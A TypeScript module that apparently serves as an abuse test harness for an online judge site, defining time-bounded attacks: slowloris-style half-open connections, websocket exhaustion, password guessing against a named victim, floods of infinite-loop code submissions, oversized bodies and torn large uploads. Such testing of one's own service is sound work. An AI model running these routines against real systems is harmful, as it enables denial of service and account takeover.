/** What one address does to the site when it means harm. Each is bounded in what it opens, and ends by itself. */
import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

export interface Target {
  readonly host: string
  readonly port: number
  /** Tokens of accounts that the attacker has. */
  readonly tokens: readonly string[]
  /** Whose password it guesses. */
  readonly victim: string
  readonly untilMs: number
}

/** How often something was done, by what came of it. */
export type Outcomes = Record<string, number>
type Attack = (target: Target, count: (outcome: string) => void) => Promise<void>

const isOver = ({ untilMs }: Target): boolean => Date.now() >= untilMs
const pauseMs = 10
const json = { 'Content-Type': 'application/json' }

/** Does it in so many loops side by side. */
async function inParallel(loops: number, target: Target, work: (loop: number) => Promise<void>): Promise<void> {
  const loop = async (index: number): Promise<void> => {
    while (!isOver(target)) {
      await work(index)
      await sleep(pauseMs)
    }
  }
  await Promise.all(Array.from({ length: loops }, (_, index) => loop(index)))
}

const post = async (
  { host, port, untilMs }: Target,
  path: string,
  { headers = {}, body }: { readonly headers?: Record<string, string>; readonly body: string },
): Promise<string> =>
  fetch(`http://${host}:${port}${path}`, {
    method: 'POST',
    headers: { ...json, ...headers },
    body,
    signal: AbortSignal.timeout(Math.max(1, untilMs - Date.now())),
  }).then(
    async (answer) => {
      await answer.arrayBuffer()
      return String(answer.status)
    },
    () => 'cut',
  )

const mostOpen = 4_000
const openAtOnce = 50

/** Opens as many connections as it gets and writes `head` on each, then holds them; what is ended is opened again. */
async function holdOpen(
  target: Target,
  head: string,
  count: (outcome: string) => void,
  outcomeOf: (answer: string) => string,
): Promise<void> {
  const open = new Set<Socket>()
  const add = (): void => {
    const socket = connect(target.port, target.host, () => void (head !== '' && socket.write(head)))
    open.add(socket)
    let isCounted = false
    const seen = (outcome: string): void => {
      if (!isCounted) count(outcome)
      isCounted = true
    }
    if (head === '') socket.once('connect', () => setTimeout(() => seen(socket.destroyed ? 'ended' : 'open'), 1_000))
    socket.once('data', (data) => seen(outcomeOf(data.toString('latin1'))))
    socket.on('error', () => socket.destroy())
    socket.once('close', () => {
      seen('ended')
      open.delete(socket)
    })
  }
  while (!isOver(target)) {
    for (let index = 0; index < openAtOnce && open.size < mostOpen; index += 1) add()
    await sleep(pauseMs)
  }
  count(`held at the end: ${open.size}`)
  for (const socket of open) socket.destroy()
}

/** Connections that say nothing, or only half of a request. */
const connections: Attack = async (target, count) =>
  holdOpen(target, `POST /api/login HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: appl`, count, (answer) =>
    answer.slice(9, 12),
  )

/** Live sockets. */
const sockets: Attack = async (target, count) =>
  holdOpen(
    target,
    [
      'GET /live/?EIO=4&transport=websocket HTTP/1.1',
      `Host: ${target.host}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      '\r\n',
    ].join('\r\n'),
    count,
    (answer) => answer.slice(9, 12),
  )

const guessers = 100

/** Passwords of the victim and of made-up names. */
const signIns: Attack = async (target, count) =>
  inParallel(guessers, target, async (loop) => {
    const username = loop % 2 === 0 ? target.victim : `nobody${loop}`
    const password = `guess-${Math.random()}`
    count(await post(target, '/api/login', { body: JSON.stringify({ username, password }) }))
  })

const submitters = 20

/** As much to judge as its accounts get in. */
const submissionsOf =
  (code: string): Attack =>
  async (target, count) =>
    inParallel(submitters, target, async (loop) => {
      const Authorization = target.tokens[loop % target.tokens.length] ?? ''
      const body = JSON.stringify({
        pid: 'P1000',
        language: 'C++ 17',
        code: `${code}// ${Math.random()}`,
        cid: 0,
        isRemote: false,
      })
      count(await post(target, '/api/submit-problem-judge', { headers: { Authorization }, body }))
    })

const submissions = submissionsOf('#include <bits/stdc++.h>\nint main() {}\n')
/** Each holds a judge for its whole limit, case after case. */
const slowSubmissions = submissionsOf('#include <bits/stdc++.h>\nint main() { for (;;) {} }\n')

const bodies = 20
const hugeBytes = 1_900_000

/** Bodies of nearly two megabytes that nobody needs. */
const bigBodies: Attack = async (target, count) => {
  const body = JSON.stringify({ username: 'a', password: 'b', more: Array.from({ length: hugeBytes / 4 }, () => 1) })
  await inParallel(bodies, target, async () => count(await post(target, '/api/login', { body })))
}

const uploads = 40
const sentBytes = 262_144
const announcedBytes = 20_000_000

/** Uploads that are announced large and end in the middle. */
const tornUploads: Attack = async (target, count) =>
  inParallel(uploads, target, async (loop) => {
    const socket = connect(target.port, target.host)
    const ended = new Promise<string>((resolve) => {
      socket.once('data', (data) => resolve(data.toString('latin1').slice(9, 12)))
      socket.on('error', () => resolve('cut'))
      socket.once('close', () => resolve('torn'))
    })
    socket.write(
      [
        'POST /api/file/upload-testcase-zip HTTP/1.1',
        `Host: ${target.host}`,
        `Authorization: ${target.tokens[loop % target.tokens.length] ?? ''}`,
        'Content-Type: multipart/form-data; boundary=b',
        `Content-Length: ${announcedBytes}`,
        '',
        '--b',
        'Content-Disposition: form-data; name="file"; filename="a.zip"',
        'Content-Type: application/zip',
        '\r\n',
      ].join('\r\n'),
    )
    socket.write(Buffer.alloc(sentBytes, 'PK'))
    const answer = await Promise.race([ended, sleep(100).then(() => 'torn')])
    socket.destroy()
    count(answer)
  })

export const attacks = {
  connections,
  sockets,
  signIns,
  submissions,
  slowSubmissions,
  bigBodies,
  tornUploads,
} satisfies Record<string, Attack>
export type AttackName = keyof typeof attacks
